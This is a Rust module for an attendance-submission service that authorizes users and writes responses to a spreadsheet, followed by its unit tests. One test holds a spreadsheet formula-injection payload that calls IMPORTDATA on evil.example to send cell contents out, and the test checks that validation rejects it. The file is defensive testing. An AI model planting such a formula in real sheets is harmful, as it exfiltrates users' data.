use chrono::{FixedOffset, Utc};
use serde::Serialize;
use std::sync::Arc;
use thiserror::Error;

use super::submission::{AttendanceSubmission, ResponseRow, ValidationError};
use crate::calendar::{AuthorizationPolicy, Event, UserEventPermission, authorize, human_date, permitted_titles};
use crate::sync::row_writer::{RowWriter, TerminalWriteError};
use crate::sync::source::{FetchError, ScheduleSource, fetch_schedule};

#[derive(Debug, Error)]
pub enum SubmissionError {
    #[error("Caller has no email")]
    MissingIdentity,
    #[error("{email} may not respond to {event_title}")]
    Unauthorized { email: String, event_title: String },
    #[error("Invalid submission: {0}")]
    Validation(#[from] ValidationError),
    #[error(transparent)]
    Fetch(#[from] FetchError),
    #[error(transparent)]
    Write(#[from] TerminalWriteError),
}

/// An event the caller may answer for, as offered by the form.
#[derive(Debug, Clone, PartialEq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct EventOption {
    pub title: String,
    pub date: String,
    pub is_test: bool,
}

pub struct SubmissionService {
    source: Arc<dyn ScheduleSource>,
    writer: RowWriter,
    policy: AuthorizationPolicy,
    display_offset: FixedOffset,
}

impl SubmissionService {
    pub fn new(
        source: Arc<dyn ScheduleSource>,
        writer: RowWriter,
        policy: AuthorizationPolicy,
        display_offset: FixedOffset,
    ) -> Self {
        Self {
            source,
            writer,
            policy,
            display_offset,
        }
    }

    /// Authorizes the caller against fresh permissions and appends their answer.
    ///
    /// Write failures are returned to the caller, never swallowed.
    pub async fn submit_attendance(
        &self,
        submission: AttendanceSubmission,
        caller_email: Option<&str>,
    ) -> Result<ResponseRow, SubmissionError> {
        let email = caller_email
            .map(str::trim)
            .filter(|email| !email.is_empty())
            .ok_or(SubmissionError::MissingIdentity)?;
        submission.validate()?;

        let permissions = self.source.fetch_permissions().await?;
        if !authorize(email, &submission.event_title, &permissions, self.policy) {
            tracing::warn!(
                email,
                event_title = %submission.event_title,
                permission_rows = permissions.len(),
                "Rejected attendance for unpermitted event"
            );
            return Err(SubmissionError::Unauthorized {
                email: email.to_string(),
                event_title: submission.event_title,
            });
        }

        let row = ResponseRow::new(email, Utc::now(), &submission);
        if let Err(error) = self.writer.append(&row).await {
            tracing::error!(
                email,
                event_title = %row.event_title,
                event_date = %row.event_date,
                going = row.going,
                went_last_time = row.went_last_time,
                "Attendance not recorded: {}",
                error
            );
            return Err(error.into());
        }

        tracing::info!(email, event_title = %row.event_title, going = row.going, "Attendance recorded");
        Ok(row)
    }

    /// Upcoming events the caller may respond to, in calendar order.
    pub async fn upcoming_events(
        &self,
        caller_email: Option<&str>,
    ) -> Result<Vec<EventOption>, SubmissionError> {
        let email = caller_email
            .map(str::trim)
            .filter(|email| !email.is_empty())
            .ok_or(SubmissionError::MissingIdentity)?;

        let (events, permissions) = fetch_schedule(self.source.as_ref()).await?;
        let titles = permitted_titles(email, &permissions, self.policy);

        Ok(events
            .iter()
            .filter_map(|event| {
                let title = sheet_title_for(event, &permissions)?;
                titles.contains(&title).then(|| EventOption {
                    title: title.to_string(),
                    date: human_date(&event.start, &self.display_offset),
                    is_test: event.is_test,
                })
            })
            .collect())
    }
}

/// The permission title a calendar entry belongs to; the longest prefix wins
/// so "Test Event 2" is not claimed by "Test Event".
fn sheet_title_for<'a>(event: &Event, permissions: &'a [UserEventPermission]) -> Option<&'a str> {
    permissions
        .iter()
        .filter(|p| event.matches_title(&p.title))
        .map(|p| p.title.as_str())
        .max_by_key(|title| title.len())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sync::row_writer::RetryPolicy;
    use crate::sync::sheets_api::{MockSheetsApi, SheetsError};
    use crate::sync::source::MockScheduleSource;
    use chrono::{TimeZone, Utc};
    use pretty_assertions::assert_eq;

    fn create_test_submission(title: &str) -> AttendanceSubmission {
        AttendanceSubmission {
            event_title: title.to_string(),
            event_date: "07/03/2025 19:30".to_string(),
            going: false,
            why_not: Some("@work".to_string()),
            went_last_time: true,
            comments: Some("  see you next week ".to_string()),
        }
    }

    fn rehearsal_source() -> MockScheduleSource {
        let mut source = MockScheduleSource::new();
        source
            .expect_fetch_permissions()
            .returning(|| Ok(vec![UserEventPermission::new("Rehearsal", "a@x.com")]));
        source
    }

    fn service(source: MockScheduleSource, sheets: MockSheetsApi) -> SubmissionService {
        let writer = RowWriter::new(
            Arc::new(sheets),
            "sheet-1".to_string(),
            "response".to_string(),
            RetryPolicy::no_retry(),
        );
        SubmissionService::new(
            Arc::new(source),
            writer,
            AuthorizationPolicy::Strict,
            FixedOffset::east_opt(0).unwrap(),
        )
    }

    fn event(title: &str, hour: u32, is_test: bool) -> Event {
        Event {
            id: title.to_string(),
            title: title.to_string(),
            start: Utc.with_ymd_and_hms(2025, 3, 7, hour, 0, 0).unwrap(),
            end: None,
            is_test,
        }
    }

    #[tokio::test]
    async fn authorized_caller_appends_sanitized_row() {
        let mut sheets = MockSheetsApi::new();
        sheets
            .expect_append_row()
            .withf(|_, _, cells| {
                cells[0] == "a@x.com"
                    && cells[2] == "Rehearsal"
                    && cells[3] == "07/03/2025 19:30"
                    && cells[4] == "FALSE"
                    && cells[5] == "'@work"
                    && cells[6] == "TRUE"
                    && cells[7] == "see you next week"
            })
            .times(1)
            .returning(|_, _, _| Ok(()));

        let row = service(rehearsal_source(), sheets)
            .submit_attendance(create_test_submission("Rehearsal"), Some("a@x.com"))
            .await
            .unwrap();

        assert_eq!(row.email, "a@x.com");
        assert_eq!(row.why_not, "'@work");
    }

    #[tokio::test]
    async fn other_caller_is_unauthorized_and_nothing_is_written() {
        let mut sheets = MockSheetsApi::new();
        sheets.expect_append_row().never();

        let result = service(rehearsal_source(), sheets)
            .submit_attendance(create_test_submission("Rehearsal"), Some("b@x.com"))
            .await;

        assert!(matches!(
            result,
            Err(SubmissionError::Unauthorized { email, event_title })
                if email == "b@x.com" && event_title == "Rehearsal"
        ));
    }

    #[tokio::test]
    async fn missing_identity_is_rejected_before_fetching() {
        let mut source = MockScheduleSource::new();
        source.expect_fetch_permissions().never();

        let svc = service(source, MockSheetsApi::new());

        assert!(matches!(
            svc.submit_attendance(create_test_submission("Rehearsal"), None).await,
            Err(SubmissionError::MissingIdentity)
        ));
        assert!(matches!(
            svc.submit_attendance(create_test_submission("Rehearsal"), Some("  ")).await,
            Err(SubmissionError::MissingIdentity)
        ));
    }

    #[tokio::test]
    async fn blank_title_is_a_validation_error() {
        let mut source = MockScheduleSource::new();
        source.expect_fetch_permissions().never();

        let result = service(source, MockSheetsApi::new())
            .submit_attendance(create_test_submission(" "), Some("a@x.com"))
            .await;

        assert!(matches!(result, Err(SubmissionError::Validation(_))));
    }

    #[tokio::test]
    async fn formula_event_date_is_rejected_before_writing() {
        let mut source = MockScheduleSource::new();
        source.expect_fetch_permissions().never();
        let mut sheets = MockSheetsApi::new();
        sheets.expect_append_row().never();

        let submission = AttendanceSubmission {
            event_date: "=IMPORTDATA(\"https://evil.example/?\"&A1)".to_string(),
            ..create_test_submission("Rehearsal")
        };
        let result = service(source, sheets)
            .submit_attendance(submission, Some("a@x.com"))
            .await;

        assert!(matches!(
            result,
            Err(SubmissionError::Validation(ValidationError::InvalidEventDate(_)))
        ));
    }

    #[tokio::test]
    async fn fetch_failure_propagates() {
        let mut source = MockScheduleSource::new();
        source
            .expect_fetch_permissions()
            .returning(|| Err(FetchError::NoEvents));

        let result = service(source, MockSheetsApi::new())
            .submit_attendance(create_test_submission("Rehearsal"), Some("a@x.com"))
            .await;

        assert!(matches!(result, Err(SubmissionError::Fetch(FetchError::NoEvents))));
    }

    #[tokio::test]
    async fn write_failure_is_surfaced() {
        let mut sheets = MockSheetsApi::new();
        sheets.expect_append_row().times(1).returning(|_, _, _| {
            Err(SheetsError::Status {
                status: 403,
                message: "Permission denied".to_string(),
            })
        });

        let result = service(rehearsal_source(), sheets)
            .submit_attendance(create_test_submission("Rehearsal"), Some("a@x.com"))
            .await;

        assert!(matches!(result, Err(SubmissionError::Write(e)) if e.attempts == 1));
    }

    #[tokio::test]
    async fn upcoming_events_lists_only_permitted_titles() {
        let mut source = MockScheduleSource::new();
        source.expect_fetch_events().returning(|| {
            Ok(vec![
                event("Rehearsal - Hall B", 18, false),
                event("Performance", 19, false),
                event("Unlisted", 20, false),
                event("Rehearsal", 21, false),
            ])
        });
        source.expect_fetch_permissions().returning(|| {
            Ok(vec![
                UserEventPermission::new("Rehearsal", "a@x.com"),
                UserEventPermission::new("Performance", "b@x.com"),
            ])
        });

        let options = service(source, MockSheetsApi::new())
            .upcoming_events(Some("a@x.com"))
            .await
            .unwrap();

        assert_eq!(
            options,
            vec![
                EventOption {
                    title: "Rehearsal".to_string(),
                    date: "07/03/2025 18:00".to_string(),
                    is_test: false,
                },
                EventOption {
                    title: "Rehearsal".to_string(),
                    date: "07/03/2025 21:00".to_string(),
                    is_test: false,
                },
            ]
        );
    }

    #[test]
    fn longest_matching_title_wins() {
        let permissions = vec![
            UserEventPermission::test_record("Test Event"),
            UserEventPermission::test_record("Test Event 2"),
        ];

        assert_eq!(sheet_title_for(&event("Test Event 2", 10, true), &permissions), Some("Test Event 2"));
        assert_eq!(sheet_title_for(&event("Test Event", 10, true), &permissions), Some("Test Event"));
        assert_eq!(sheet_title_for(&event("Concert", 10, true), &permissions), None);
    }
}
